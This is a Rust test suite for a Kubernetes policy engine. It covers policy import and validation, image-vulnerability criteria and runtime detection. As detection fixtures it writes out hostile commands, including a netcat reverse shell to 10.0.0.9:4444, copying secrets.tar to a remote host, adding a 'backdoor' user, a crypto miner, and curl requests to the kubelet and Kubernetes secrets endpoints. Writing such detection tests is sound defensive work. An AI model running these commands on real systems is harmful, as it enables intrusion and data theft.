    // A host port above 1024 is not privileged; whether a Service maps a low node port is unknown.
    let name = "Docker CIS 5.7: Ensure privileged ports are not mapped within containers";
    let high = workload(
        "",
        "containers: [{name: a, image: x:1, ports: [{containerPort: 80, hostPort: 8080}]}]",
    );
    check(name, outcome(find(name), &high), Want::NotEvaluable);
    // Cluster-context policies: undecidable from a manifest, never a silent pass.
    for name in [
        "Deployments should have at least one egress Network Policy",
        "Deployments should have at least one ingress Network Policy",
        "Deployments with externally exposed endpoints",
    ] {
        let p = find(name);
        check(
            name,
            outcome(
                p,
                &workload(
                    "",
                    "containers: [{name: a, image: x:1, ports: [{containerPort: 8080}]}]",
                ),
            ),
            Want::NotEvaluable,
        );
        covered.insert(name);
    }
    // Image-data policies: not evaluable until a scan exists; the privileged ones pass when the
    // container is not privileged (the manifest part already decides).
    for p in policies.iter().filter(|p| {
        p.has_stage(rampart_policy::LifecycleStage::Deploy) && !covered.contains(p.name.as_str())
    }) {
        let compiled = compile(p).expect("valid");
        assert!(
            compiled
                .needs
                .contains(&rampart_policy::criteria::Needs::ImageData),
            "default policy '{}' has no fixture",
            p.name
        );
        check(
            &p.name,
            outcome(
                p,
                &workload(
                    "",
                    "containers: [{name: a, image: x:1, securityContext: {privileged: true}}]",
                ),
            ),
            Want::NotEvaluable,
        );
        if p.name.contains("Privileged") {
            check(&p.name, outcome(p, &workload("", SAFE)), Want::Pass);
        }
    }
}

#[test]
fn acs_policies_round_trip_unchanged() {
    // Written from ACS's documented semantics: export → import → export gives the same JSON.
    let export = r#"{"policies": [{
      "id": "0b6f3e3c-3c2e-4c8a-9d4d-1c2b3a4f5e6d",
      "name": "Custom: no privileged shop containers",
      "description": "d", "rationale": "r", "remediation": "m",
      "categories": ["Privileges", "Docker CIS"],
      "lifecycleStages": ["DEPLOY"],
      "exclusions": [{"name": "ops", "deployment": {"name": "ops", "scope": {"cluster": "prod", "namespace": "ops", "label": {"key": "tier", "value": "infra"}}}, "expiration": "2030-01-01T00:00:00Z"}],
      "scope": [{"namespace": "shop.*"}, {"label": {"key": "team", "value": "payments"}}],
      "severity": "HIGH_SEVERITY",
      "enforcementActions": ["SCALE_TO_ZERO_ENFORCEMENT", "UNSATISFIABLE_NODE_CONSTRAINT_ENFORCEMENT"],
      "notifiers": ["n1"],
      "lastUpdated": "2024-05-01T10:00:00.123456Z",
      "SORTName": "Custom: no privileged shop containers",
      "SORTLifecycleStage": "DEPLOY",
      "SORTEnforcement": true,
      "policyVersion": "1.1",
      "policySections": [{"sectionName": "s1", "policyGroups": [
        {"fieldName": "Privileged Container", "values": [{"value": "true"}]},
        {"fieldName": "Namespace", "negate": true, "values": [{"value": "kube-system"}]},
        {"fieldName": "Environment Variable", "booleanOperator": "AND", "values": [{"value": "RAW=DEBUG="}, {"value": "SECRET_KEY=.*="}]}
      ]}],
      "mitreAttackVectors": [{"tactic": "TA0004", "techniques": ["T1611"]}],
      "criteriaLocked": true, "mitreVectorsLocked": true, "isDefault": false,
      "source": "IMPERATIVE"
    }]}"#;
    let imported = parse_policies(export).expect("ACS export loads");
    compile(&imported[0]).expect("and validates");
    let exported = serde_json::to_value(rampart_policy::policy::PolicyList {
        policies: imported.clone(),
    })
    .expect("serializes");
    let original: serde_json::Value = serde_json::from_str(export).expect("json");
    // `isDefault: false` is the proto3 default and is not written back, as ACS does.
    let mut original_without_defaults = original.clone();
    original_without_defaults["policies"][0]
        .as_object_mut()
        .expect("object")
        .remove("isDefault");
    assert_eq!(exported, original_without_defaults);
    let reimported = parse_policies(&exported.to_string()).expect("re-import");
    assert_eq!(reimported, imported);
    // Every embedded default survives the same trip.
    for p in default_policies() {
        let text = serde_json::to_string(&p).expect("serializes");
        assert_eq!(parse_policies(&text).expect("re-import").remove(0), p);
    }
}

#[test]
fn validation_names_every_problem() {
    let json = r#"{"name": "broken", "severity": "UNSET_SEVERITY", "lifecycleStages": ["BUILD", "DEPLOY"],
      "enforcementActions": ["KILL_POD_ENFORCEMENT"],
      "exclusions": [{"name": "e", "deployment": {"name": "x"}, "expiration": "tomorrow"}],
      "policySections": [{"policyGroups": [
        {"fieldName": "Privileged", "values": [{"value": "true"}]},
        {"fieldName": "Privileged Container", "negate": true, "values": [{"value": "maybe"}]},
        {"fieldName": "Host Network", "values": [{"value": "true"}, {"value": "false"}]},
        {"fieldName": "Process Name", "values": [{"value": "bash"}]},
        {"fieldName": "Image Tag", "values": [{"value": "(unclosed"}]},
        {"fieldName": "Environment Variable", "values": [{"value": "PLAIN=X="}]},
        {"fieldName": "Exposed Port", "values": [{"value": ">= lots"}]}
      ]}]}"#;
    let p = parse_policies(json).expect("parses");
    let errors = compile(&p[0]).expect_err("invalid");
    let text: Vec<String> = errors
        .iter()
        .map(|e| format!("{}: {}", e.path, e.message))
        .collect();
    let expect = [
        "severity: severity is required",
        "enforcementActions[0]: enforcement KillPod needs the Runtime lifecycle stage",
        "policySections[0].policyGroups[0].fieldName: unknown field name 'Privileged' (did you mean 'Privileged Container'?)",
        "policySections[0].policyGroups[1].negate: criterion 'Privileged Container' cannot be negated",
        "policySections[0].policyGroups[1].values[0]: 'maybe' is not a boolean",
        "policySections[0].policyGroups[2].values: criterion 'Host Network' takes exactly one value",
        "policySections[0].policyGroups[2].fieldName: criterion 'Host Network' is not allowed in a Build policy",
        "policySections[0].policyGroups[3].fieldName: criterion 'Process Name' is not allowed in a Deploy policy",
        "policySections[0].policyGroups[4].values[0]: invalid regular expression '(unclosed'",
        "policySections[0].policyGroups[5].values[0]: 'PLAIN' is not an environment variable source",
        "policySections[0].policyGroups[6].values[0]: '>= lots' is not a number",
        "exclusions[0].expiration: 'tomorrow' is not an RFC 3339 timestamp",
    ];
    for e in expect {
        assert!(
            text.iter().any(|t| t.starts_with(e)),
            "missing {e:?} in {text:#?}"
        );
    }
}

/// Kubernetes-event runtime policies: event criteria against the request, the rest against the
/// pod's deployment; without an event they cannot be decided.
#[test]
fn kubernetes_event_criteria() {
    use rampart_policy::{KubeEvent, RuntimeEvent, evaluate_event};
    let runtime = |groups: serde_json::Value| -> Policy {
        let json = serde_json::json!({
            "name": "kube event", "severity": "HIGH_SEVERITY",
            "lifecycleStages": ["RUNTIME"], "eventSource": "DEPLOYMENT_EVENT",
            "policySections": [{"policyGroups": groups}]
        });
        parse_policies(&json.to_string()).expect("valid").remove(0)
    };
    let exec = KubeEvent {
        resource: "PODS_EXEC".into(),
        verb: "CREATE".into(),
        object_name: "web-5d8c-x2".into(),
        user: "alice".into(),
        groups: vec!["system:authenticated".into(), "devs".into()],
        impersonated: false,
    };
    let attach = KubeEvent {
        resource: "PODS_ATTACH".into(),
        ..exec.clone()
    };
    let privileged = workload(
        "",
        "containers: [{name: app, image: a:1, securityContext: {privileged: true}}]",
    );
    let plain = workload("", SAFE);
    let ctx = EvalContext::default();
    let eval = |p: &Policy, d: &Deployment, e: &KubeEvent| {
        let compiled = compile(p).unwrap_or_else(|e| panic!("{e:?}"));
        evaluate_event(&compiled, d, RuntimeEvent::Kube(e), &ctx)
    };
    let resource = runtime(serde_json::json!([
        {"fieldName": "Kubernetes Resource", "values": [{"value": "PODS_EXEC"}]}
    ]));
    check(
        "exec",
        eval(&resource, &plain, &exec),
        Want::Violated("exec into pod 'web-5d8c-x2' request from user 'alice'"),
    );
    check("attach", eval(&resource, &plain, &attach), Want::Pass);
    check("no event", outcome(&resource, &plain), Want::NotEvaluable);
    // Event and deployment criteria in one section: both must hold.
    let exec_privileged = runtime(serde_json::json!([
        {"fieldName": "Kubernetes Resource", "values": [{"value": "PODS_EXEC"}]},
        {"fieldName": "Privileged Container", "values": [{"value": "true"}]}
    ]));
    check(
        "exec into a privileged pod",
        eval(&exec_privileged, &privileged, &exec),
        Want::Violated("is privileged"),
    );
    check(
        "exec into an unprivileged pod",
        eval(&exec_privileged, &plain, &exec),
        Want::Pass,
    );
    let by_group = runtime(serde_json::json!([
        {"fieldName": "Kubernetes Resource", "values": [{"value": "PODS_EXEC"}, {"value": "PODS_ATTACH"}]},
        {"fieldName": "Kubernetes User Groups", "negate": true, "values": [{"value": "sre"}]}
    ]));
    check(
        "not an SRE",
        eval(&by_group, &plain, &attach),
        Want::Violated("attach to pod"),
    );
    let sre = KubeEvent {
        groups: vec!["sre".into()],
        ..attach.clone()
    };
    check("an SRE", eval(&by_group, &plain, &sre), Want::Pass);
    let by_user = runtime(serde_json::json!([
        {"fieldName": "Kubernetes User Name", "values": [{"value": "ali.*"}]},
        {"fieldName": "Kubernetes API Verb", "values": [{"value": "CREATE"}]}
    ]));
    check(
        "user name",
        eval(&by_user, &plain, &exec),
        Want::Violated("by user 'alice'"),
    );
    // A process criterion never matches a Kubernetes event.
    let process = runtime(serde_json::json!([
        {"fieldName": "Process Name", "values": [{"value": "sh"}]}
    ]));
    check(
        "process vs kube event",
        eval(&process, &plain, &exec),
        Want::Pass,
    );
    // The default Kubernetes action policies each catch their request kind only.
    let defaults = default_policies();
    for (name, event) in [
        ("Kubernetes Actions: Exec into Pod", &exec),
        ("Kubernetes Actions: Attach to Pod", &attach),
    ] {
        let p = defaults.iter().find(|p| p.name == name).expect(name);
        check(
            name,
            eval(p, &plain, event),
            Want::Violated("request from user"),
        );
    }
    let portforward = defaults
        .iter()
        .find(|p| p.name == "Kubernetes Actions: Port Forward to Pod")
        .expect("port-forward policy");
    check(
        "port-forward vs exec",
        eval(portforward, &plain, &exec),
        Want::Pass,
    );
}

#[test]
fn policies_that_need_image_data_everywhere_cannot_be_violated_by_a_manifest() {
    // Workloads that violate as much as a manifest can.
    let worst = [
        "hostPID: true\nhostNetwork: true\nhostIPC: true\ncontainers: [{name: a, image: 'docker.io/library/ubuntu:latest', securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN, NET_RAW]}}, ports: [{containerPort: 22, hostPort: 22}], env: [{name: AWS_SECRET_ACCESS_KEY, value: x}], volumeMounts: [{name: root, mountPath: /host}]}]\nvolumes: [{name: root, hostPath: {path: /}}]",
        "containers: [{name: a, image: 'quay.io/x/y'}]\ninitContainers: [{name: b, image: 'x:1', securityContext: {runAsUser: 0}}]",
        SAFE,
    ];
    let mut skipped = 0;
    for p in default_policies()
        .into_iter()
        .filter(|p| p.has_stage(rampart_policy::LifecycleStage::Deploy))
    {
        let compiled = compile(&p).expect("valid");
        if rampart_policy::can_violate_without_image_data(&compiled) {
            continue;
        }
        skipped += 1;
        assert!(
            compiled
                .needs
                .contains(&rampart_policy::criteria::Needs::ImageData),
            "{}",
            p.name
        );
        for spec in worst {
            let got = outcome(&p, &workload("", spec));
            assert!(
                !matches!(got, Outcome::Violated(_)),
                "'{}' violated without image data: {got:?}",
                p.name
            );
        }
    }
    assert!(skipped > 0, "the default set has image-only policies");
}

/// An image scanned 3 days ago, created 200 days ago: Debian 12, user 1000, a label, an `apt-get`
/// Dockerfile line, log4j-core 2.14.1 (Log4Shell, critical, fixed by 2.15.0, published 2021)
/// and openssl with an unfixed moderate CVE.
fn scanned_image(now: i64) -> rampart_policy::image_data::ImageData {
    use rampart_policy::image_data::*;
    let day = 86_400;
    ImageData {
        scanned: true,
        scan_time: Some(now - 3 * day),
        created: Some(now - 200 * day),
        os: "debian:12".into(),
        user: "1000".into(),
        labels: [("team".to_string(), "payments".to_string())].into(),
        dockerfile: vec![DockerfileInstruction {
            instruction: "RUN".into(),
            value: "apt-get update && apt-get install -y curl".into(),
        }],
        components: vec![
            ImageComponent {
                name: "org.apache.logging.log4j:log4j-core".into(),
                version: "2.14.1".into(),
                vulns: vec![ImageVuln {
                    cve: "CVE-2021-44228".into(),
                    cvss: Some(10.0),
                    severity: VulnSeverity::Critical,
                    fixed_by: Some("2.15.0".into()),
                    published: Some(1_639_094_400),
                    fix_available: Some(1_639_094_400),
                }],
            },
            ImageComponent {
                name: "openssl".into(),
                version: "3.0.11-1~deb12u2".into(),
                vulns: vec![ImageVuln {
                    cve: "CVE-2023-5678".into(),
                    cvss: Some(5.3),
                    severity: VulnSeverity::Moderate,
                    fixed_by: None,
                    published: Some(now - 10 * day),
                    fix_available: None,
                }],
            },
        ],
    }
}

fn with_image(data: Option<rampart_policy::image_data::ImageData>) -> Deployment {
    let mut d = workload("", SAFE);
    d.containers[0].image_data = data.map(std::sync::Arc::new);
    d
}

/// A policy of one section with several groups `(field, values)`.
fn section_policy(groups: &[(&str, &[&str])]) -> Policy {
    let groups: Vec<_> = groups
        .iter()
        .map(|(field, values)| {
            serde_json::json!({"fieldName": field, "booleanOperator": "OR",
                "values": values.iter().map(|v| serde_json::json!({"value": v})).collect::<Vec<_>>()})
        })
        .collect();
    let json = serde_json::json!({
        "name": "image test", "severity": "HIGH_SEVERITY", "lifecycleStages": ["BUILD", "DEPLOY"],
        "policySections": [{"policyGroups": groups}]
    });
    parse_policies(&json.to_string()).expect("valid").remove(0)
}

#[test]
fn image_criteria_evaluate_once_scan_data_is_attached() {
    let ctx = EvalContext::default();
    let now = ctx.now.unix_timestamp();
    let scanned = with_image(Some(scanned_image(now)));
    let run = |p: &Policy, d: &Deployment| evaluate(&compile(p).expect("compiles"), d, &ctx);
    // (field, value, message fragment when violated) on the scanned image; then a value that passes.
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "Image Component",
            "log4j-core=2\\.14\\..*",
            "component 'org.apache.logging.log4j:log4j-core'",
            "log4j=.*",
        ),
        (
            "Image Component",
            ".*log4j-core=",
            "component 'org.apache.logging.log4j:log4j-core' (version 2.14.1)",
            "log4j-api=",
        ),
        (
            "CVE",
            "CVE-2021-44228",
            "CVE-2021-44228 (CVSS 10.0, CRITICAL)",
            "CVE-2014-0160",
        ),
        ("CVSS", ">= 9", "CVE-2021-44228", "> 10"),
        ("Severity", ">= IMPORTANT", "CRITICAL", "> CRITICAL"),
        ("Fixable", "true", "fixed by 2.15.0", ""),
        ("Fixed By", "2\\.15\\..*", "CVE-2021-44228", "9.*"),
        (
            "Days Since CVE Was Published",
            "365",
            "CVE-2021-44228",
            "36500",
        ),
        (
            "Days Since CVE Fix Was Available",
            "30",
            "CVE-2021-44228",
            "36500",
        ),
        ("Image OS", "debian:.*", "has OS debian:12", "alpine:.*"),
        ("Image User", "1000", "runs as user '1000'", "0|root"),
        ("Image Age", "90", "created 200 days ago", "365"),
        ("Image Scan Age", "1", "last scanned 3 days ago", "30"),
        (
            "Disallowed Image Label",
            "team=payments",
            "disallowed label team=payments",
            "team=web",
        ),
        (
            "Required Image Label",
            "owner=.+",
            "no label matching 'owner=.+'",
            "team=.*",
        ),
        (
            "Dockerfile Line",
            "RUN=.*apt-get.*",
            "Dockerfile line 'RUN apt-get",
            "ADD=.*",
        ),
        ("Unscanned Image", "true", "", ""),
    ];
    for (field, value, fragment, passing) in cases {
        let p = policy(field, &[value], false, false);
        let got = run(&p, &scanned);
        if fragment.is_empty() {
            // `Unscanned Image` is false here.
            assert_eq!(got, Outcome::Pass, "{field}={value}");
        } else {
            check(&format!("{field}={value}"), got, Want::Violated(fragment));
        }
        if !passing.is_empty() {
            let p = policy(field, &[passing], false, false);
            assert_eq!(run(&p, &scanned), Outcome::Pass, "{field}={passing}");
        }
        // No scan data at all: every image criterion is not evaluable, never passing.
        assert!(
            matches!(
                run(&policy(field, &[value], false, false), &with_image(None)),
                Outcome::NotEvaluable(_)
            ),
            "{field} without data"
        );
    }
    // Known unscanned: Unscanned Image matches, component criteria stay unknown.
    let unscanned = with_image(Some(rampart_policy::image_data::ImageData::default()));
    check(
        "unscanned",
        run(
            &policy("Unscanned Image", &["true"], false, false),
            &unscanned,
        ),
        Want::Violated("has not been scanned"),
    );
    // Nothing else of the image is known: its user, labels and age are not "none".
    for (field, value) in [
        ("CVE", ".*"),
        ("Image User", "^$"),
        ("Required Image Label", "org.opencontainers.image.source="),
        ("Image OS", ".*"),
        ("Image Age", "1"),
        ("Image Scan Age", "1"),
    ] {
        assert!(
            matches!(
                run(&policy(field, &[value], false, false), &unscanned),
                Outcome::NotEvaluable(_)
            ),
            "{field} of an unscanned image"
        );
    }

    // Linked criteria hold for one vulnerability: log4j's is fixable and CVSS 10, openssl's
    // is neither, so "Fixable and CVSS >= 5" names only log4j's, and "not fixable and CVSS
    // >= 9" matches nothing.
    let p = section_policy(&[("Fixable", &["true"]), ("CVSS", &[">= 5"])]);
    match run(&p, &scanned) {
        Outcome::Violated(m) => {
            assert_eq!(m.len(), 1, "{m:?}");
            assert!(m[0].contains("CVE-2021-44228"), "{m:?}");
        }
        other => panic!("expected a violation, got {other:?}"),
    }
    let p = section_policy(&[("Fixable", &["false"]), ("CVSS", &[">= 9"])]);
    assert_eq!(run(&p, &scanned), Outcome::Pass);
    // Component and CVE together: the CVE must be in that component.
    let p = section_policy(&[
        ("Image Component", &["openssl="]),
        ("CVE", &["CVE-2021-44228"]),
    ]);
    assert_eq!(run(&p, &scanned), Outcome::Pass);
    let p = section_policy(&[
        ("Image Component", &["openssl="]),
        ("Severity", &["MODERATE"]),
    ]);
    check(
        "openssl moderate",
        run(&p, &scanned),
        Want::Violated("CVE-2023-5678"),
    );
}

#[test]
fn every_default_image_policy_has_a_violating_and_a_passing_image() {
    use rampart_policy::image_data::*;
    let ctx = EvalContext::default();
    let now = ctx.now.unix_timestamp();
    let day = 86_400;
    let vuln = |cve: &str, severity, fixed: Option<&str>| ImageVuln {
        cve: cve.into(),
        cvss: Some(9.8),
        severity,
        fixed_by: fixed.map(Into::into),
        published: Some(now - 400 * day),
        fix_available: None,
    };
    let component = |name: &str, vulns: Vec<ImageVuln>| ImageComponent {
        name: name.into(),
        version: "1.0".into(),
        vulns,
    };
    let line = |i: &str, v: &str| DockerfileInstruction {
        instruction: i.into(),
        value: v.into(),
    };
    let worst = ImageData {
        scanned: true,
        scan_time: Some(now - 40 * day),
        created: Some(now - 200 * day),
        os: "debian:12".into(),
        user: String::new(),
        labels: Default::default(),
        dockerfile: vec![
            line("ADD", "app.tar /"),
            line("EXPOSE", "8080 22/tcp"),
            line("CMD", "[\"serve\", \"--insecure\"]"),
            line("VOLUME", "/run/secrets"),
            line("RUN", "apt-get update && apt-get install -y curl"),
        ],
        components: vec![
            component("apk-tools", vec![]),
            component("apt", vec![]),
            component("curl", vec![]),
            component("wget", vec![]),
            component("rpm", vec![]),
            component(
                "org.apache.logging.log4j:log4j-core",
                vec![vuln(
                    "CVE-2021-44228",
                    VulnSeverity::Critical,
                    Some("2.15.0"),
                )],
            ),
            component(
                "spring-beans",
                vec![vuln(
                    "CVE-2022-22965",
                    VulnSeverity::Critical,
                    Some("5.3.18"),
                )],
            ),
            component(
                "struts2-core",
                vec![vuln("CVE-2017-5638", VulnSeverity::Critical, None)],
            ),
            component(
                "golang.org/x/net",
                vec![vuln(
                    "CVE-2023-44487",
                    VulnSeverity::Important,
                    Some("0.17.0"),
                )],
            ),
        ],
    };
    let clean = ImageData {
        scanned: true,
        scan_time: Some(now),
        created: Some(now - day),
        os: "debian:12".into(),
        user: "1000".into(),
        labels: [("required-label".to_string(), "required-value".to_string())].into(),
        dockerfile: vec![line("COPY", "app /app"), line("USER", "1000")],
        components: vec![component(
            "libc6",
            vec![vuln("CVE-2010-4052", VulnSeverity::Low, None)],
        )],
    };
    let deployment = |data: ImageData, privileged: bool| {
        let spec = if privileged {
            "containers: [{name: app, image: a:1, securityContext: {privileged: true}}]"
        } else {
            SAFE
        };
        let mut d = workload("", spec);
        d.containers[0].image_data = Some(std::sync::Arc::new(data));
        d
    };
    let mut checked = 0;
    for p in default_policies() {
        let compiled = compile(&p).expect("default compiles");
        if !compiled
            .needs
            .contains(&rampart_policy::criteria::Needs::ImageData)
        {
            continue;
        }
        checked += 1;
        let (bad, good) = if p.name == "Images with no scans" {
            (ImageData::default(), clean.clone())
        } else {
            (worst.clone(), clean.clone())
        };
        let violated = evaluate(&compiled, &deployment(bad, true), &ctx);
        assert!(
            matches!(violated, Outcome::Violated(_)),
            "{}: {violated:?}",
            p.name
        );
        let passed = evaluate(&compiled, &deployment(good, true), &ctx);
        assert_eq!(passed, Outcome::Pass, "{}", p.name);
    }
    assert_eq!(checked, 24);
}

/// Process runtime policies: process criteria against the process, container criteria of the
/// same section against the container that ran it, the rest against the deployment.
#[test]
fn process_criteria() {
    use rampart_policy::{ProcessEvent, RuntimeEvent, evaluate_event};
    let runtime = |groups: serde_json::Value| -> Policy {
        let json = serde_json::json!({
            "name": "process", "severity": "HIGH_SEVERITY",
            "lifecycleStages": ["RUNTIME"], "eventSource": "DEPLOYMENT_EVENT",
            "policySections": [{"policyGroups": groups}]
        });
        parse_policies(&json.to_string()).expect("valid").remove(0)
    };
    // Two containers: only "sidecar" is privileged.
    let d = workload(
        "",
        "containers:\n- {name: app, image: 'app:1'}\n- {name: sidecar, image: 'proxy:1', securityContext: {privileged: true}}",
    );
    let ctx = EvalContext::default();
    let eval = |p: &Policy, e: &ProcessEvent| {
        let compiled = compile(p).unwrap_or_else(|e| panic!("{e:?}"));
        evaluate_event(&compiled, &d, RuntimeEvent::Process(e), &ctx)
    };
    let shell = ProcessEvent {
        container_name: "app".into(),
        name: "bash".into(),
        exec_file_path: "/usr/bin/bash".into(),
        args: "-c id".into(),
        uid: 1000,
        lineage: vec!["/opt/java/openjdk/bin/java".into(), "/usr/bin/tini".into()],
        outside_locked_baseline: false,
    };
    let java_shell = runtime(serde_json::json!([
        {"fieldName": "Process Name", "values": [{"value": "sh"}, {"value": "bash"}, {"value": "zsh"}]},
        {"fieldName": "Process Ancestor", "values": [{"value": "java"}]}
    ]));
    check(
        "shell spawned by java",
        eval(&java_shell, &shell),
        Want::Violated("Binary '/usr/bin/bash' executed with arguments '-c id' under user ID 1000"),
    );
    let from_tini = ProcessEvent {
        lineage: vec!["/usr/bin/tini".into()],
        ..shell.clone()
    };
    check(
        "shell without java",
        eval(&java_shell, &from_tini),
        Want::Pass,
    );
    check(
        "no lineage",
        eval(
            &java_shell,
            &ProcessEvent {
                lineage: Vec::new(),
                ..shell.clone()
            },
        ),
        Want::Pass,
    );
    // Regexes are whole-string: "sh" is not "bash".
    let sh_only = runtime(serde_json::json!([
        {"fieldName": "Process Name", "values": [{"value": "sh"}]}
    ]));
    check("sh is not bash", eval(&sh_only, &shell), Want::Pass);
    // Arguments.
    let kubelet = runtime(serde_json::json!([
        {"fieldName": "Process Arguments", "values": [{"value": ".*:10250.*"}]}
    ]));
    let curl = ProcessEvent {
        name: "curl".into(),
        exec_file_path: "/usr/bin/curl".into(),
        args: "-k https://10.0.0.5:10250/pods".into(),
        ..shell.clone()
    };
    check(
        "kubelet probe",
        eval(&kubelet, &curl),
        Want::Violated("curl"),
    );
    check("other arguments", eval(&kubelet, &shell), Want::Pass);
    // UID, with a comparator, and negation.
    let root = runtime(serde_json::json!([
        {"fieldName": "Process UID", "values": [{"value": "0"}]}
    ]));
    check("uid 1000 is not 0", eval(&root, &shell), Want::Pass);
    let as_root = ProcessEvent {
        uid: 0,
        ..shell.clone()
    };
    check("uid 0", eval(&root, &as_root), Want::Violated("user ID 0"));
    let not_bash = runtime(serde_json::json!([
        {"fieldName": "Process Name", "negate": true, "values": [{"value": "bash"}]}
    ]));
    check("negated name", eval(&not_bash, &shell), Want::Pass);
    check(
        "negated name, curl",
        eval(&not_bash, &curl),
        Want::Violated("curl"),
    );
    // Static container criteria apply to the container that ran the process.
    let iptables_privileged = runtime(serde_json::json!([
        {"fieldName": "Privileged Container", "values": [{"value": "true"}]},
        {"fieldName": "Process Name", "values": [{"value": "iptables|nft"}]},
        {"fieldName": "Process UID", "values": [{"value": "0"}]}
    ]));
    let iptables = ProcessEvent {
        name: "iptables".into(),
        exec_file_path: "/usr/sbin/iptables".into(),
        args: "-L".into(),
        uid: 0,
        ..shell.clone()
    };
    check(
        "iptables in the unprivileged container",
        eval(&iptables_privileged, &iptables),
        Want::Pass,
    );
    let in_sidecar = ProcessEvent {
        container_name: "sidecar".into(),
        ..iptables.clone()
    };
    match eval(&iptables_privileged, &in_sidecar) {
        Outcome::Violated(m) => {
            assert!(m[0].starts_with("Binary '/usr/sbin/iptables'"), "{m:?}");
            assert!(
                m.iter()
                    .any(|x| x.contains("sidecar") && x.contains("privileged")),
                "{m:?}"
            );
        }
        other => panic!("iptables in the privileged sidecar: {other:?}"),
    }
    // Unexpected Process Executed: only outside a locked baseline.
    let baseline = runtime(serde_json::json!([
        {"fieldName": "Unexpected Process Executed", "values": [{"value": "true"}]}
    ]));
    check("inside the baseline", eval(&baseline, &shell), Want::Pass);
    let outside = ProcessEvent {
        outside_locked_baseline: true,
        ..shell.clone()
    };
    check(
        "outside a locked baseline",
        eval(&baseline, &outside),
        Want::Violated("/usr/bin/bash"),
    );
    // Without an event, a process policy cannot be decided; a Kubernetes criterion never
    // matches a process.
    check("no event", outcome(&java_shell, &d), Want::NotEvaluable);
    let exec = runtime(serde_json::json!([
        {"fieldName": "Kubernetes Resource", "values": [{"value": "PODS_EXEC"}]}
    ]));
    check("kube criterion vs process", eval(&exec, &shell), Want::Pass);
}

/// Every enabled default process policy, on processes an intruder (or a careless operator)
/// runs: each process raises exactly the policies that name it.
#[test]
fn default_runtime_policies_catch_what_they_name() {
    use rampart_policy::{ProcessEvent, RuntimeEvent, evaluate_event};
    let policies: Vec<_> = rampart_policy::defaults::default_policies()
        .into_iter()
        .filter(|p| !p.disabled && p.lifecycle_stages == [rampart_policy::LifecycleStage::Runtime])
        .map(|p| compile(&p).unwrap_or_else(|e| panic!("{}: {e:?}", p.name)))
        .collect();
    let d = workload(
        "",
        "containers:\n- {name: app, image: 'app:1'}\n- {name: cni, image: 'cni:1', securityContext: {privileged: true}}",
    );
    let ctx = EvalContext::default();
    let fired = |container: &str, path: &str, args: &str, uid: u32, lineage: &[&str]| {
        let e = ProcessEvent {
            container_name: container.into(),
            name: path.rsplit('/').next().unwrap_or(path).into(),
            exec_file_path: path.into(),
            args: args.into(),
            uid,
            lineage: lineage.iter().map(|s| s.to_string()).collect(),
            outside_locked_baseline: false,
        };
        let mut names: Vec<String> = policies
            .iter()
            .filter(|p| {
                matches!(
                    evaluate_event(p, &d, RuntimeEvent::Process(&e), &ctx),
                    Outcome::Violated(_)
                )
            })
            .map(|p| p.policy.name.clone())
            .collect();
        names.sort();
        names
    };
    // (container, executable, arguments, uid, ancestors, policies that fire)
    type Case<'a> = (&'a str, &'a str, &'a str, u32, &'a [&'a str], &'a [&'a str]);
    let cases: &[Case] = &[
        (
            "app",
            "/usr/bin/bash",
            "-c id",
            1000,
            &["/usr/bin/java"],
            &["Shell Spawned by Java Application"],
        ),
        (
            "app",
            "/usr/bin/bash",
            "-c id",
            1000,
            &["/usr/bin/tini"],
            &[],
        ),
        (
            "app",
            "/usr/bin/apt-get",
            "install -y curl",
            0,
            &[],
            &["Ubuntu Package Manager Execution"],
        ),
        (
            "app",
            "/sbin/apk",
            "add curl",
            0,
            &[],
            &["Alpine Linux Package Manager Execution"],
        ),
        (
            "app",
            "/usr/bin/dnf",
            "install nc",
            0,
            &[],
            &["Red Hat Package Manager Execution"],
        ),
        (
            "app",
            "/tmp/xmrig",
            "-o pool:3333",
            1000,
            &[],
            &["Cryptocurrency Mining Process Execution"],
        ),
        (
            "app",
            "/usr/bin/nc",
            "-e /bin/sh 10.0.0.9 4444",
            1000,
            &[],
            &["Netcat Execution Detected"],
        ),
        (
            "app",
            "/usr/bin/nmap",
            "-sS 10.0.0.0/24",
            0,
            &[],
            &["nmap Execution"],
        ),
        (
            "app",
            "/usr/sbin/sshd",
            "-D",
            0,
            &[],
            &["Secure Shell Server (sshd) Execution"],
        ),
        (
            "app",
            "/usr/bin/scp",
            "secrets.tar host:",
            1000,
            &[],
            &["Remote File Copy Binary Execution"],
        ),
        (
            "app",
            "/usr/sbin/useradd",
            "backdoor",
            0,
            &[],
            &["Linux User Add Execution"],
        ),
        (
            "app",
            "/usr/sbin/groupadd",
            "g",
            0,
            &[],
            &["Linux Group Add Execution"],
        ),
        (
            "app",
            "/usr/bin/crontab",
            "-e",
            0,
            &[],
            &["crontab Execution"],
        ),
        (
            "app",
            "/usr/bin/curl",
            "-k https://10.0.0.5:10250/pods",
            1000,
            &[],
            &["Process Targeting Cluster Kubelet Endpoint"],
        ),
        (
            "app",
            "/usr/bin/curl",
            "-k https://kubernetes.default.svc/api/v1/secrets",
            1000,
            &[],
            &["Process Targeting Kubernetes Service Endpoint"],
        ),
        (
            "app",
            "/usr/bin/curl",
            "http://10.0.0.5:4194/metrics",
            1000,
            &[],
            &["Process Targeting Cluster Kubernetes Docker Stats Endpoint"],
        ),
        (
            "app",
            "/usr/bin/curl",
            "http://example.com:102500/",
            1000,
            &[],
            &[],
        ),
        (
            "app",
            "/sbin/ip",
            "route add default via 10.0.0.1",
            0,
            &[],
            &["Network Management Execution"],
        ),
        (
            "app",
            "/usr/sbin/iptables",
            "-L",
            0,
            &[],
            &["iptables Execution"],
        ),
        (
            "cni",
            "/usr/sbin/iptables",
            "-L",
            0,
            &[],
            &[
                "Iptables or nftables Executed in Privileged Container",
                "iptables Execution",
            ],
        ),
        (
            "cni",
            "/usr/sbin/iptables",
            "-L",
            1000,
            &[],
            &["iptables Execution"],
        ),
        (
            "app",
            "/usr/bin/make",
            "all",
            1000,
            &[],
            &["Compiler Tool Execution"],
        ),
        (
            "app",
            "/usr/bin/systemctl",
            "start nginx",
            0,
            &[],
            &["systemctl Execution"],
        ),
        ("app", "/usr/sbin/nginx", "-g daemon off;", 0, &[], &[]),
        (
            "app",
            "/usr/bin/python3",
            "app.py",
            1000,
            &["/usr/bin/java"],
            &[],
        ),
    ];
    for (container, path, args, uid, lineage, want) in cases {
        assert_eq!(
            fired(container, path, args, *uid, lineage),
            want.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
            "{path} {args} in {container} as {uid}"
        );
    }
}
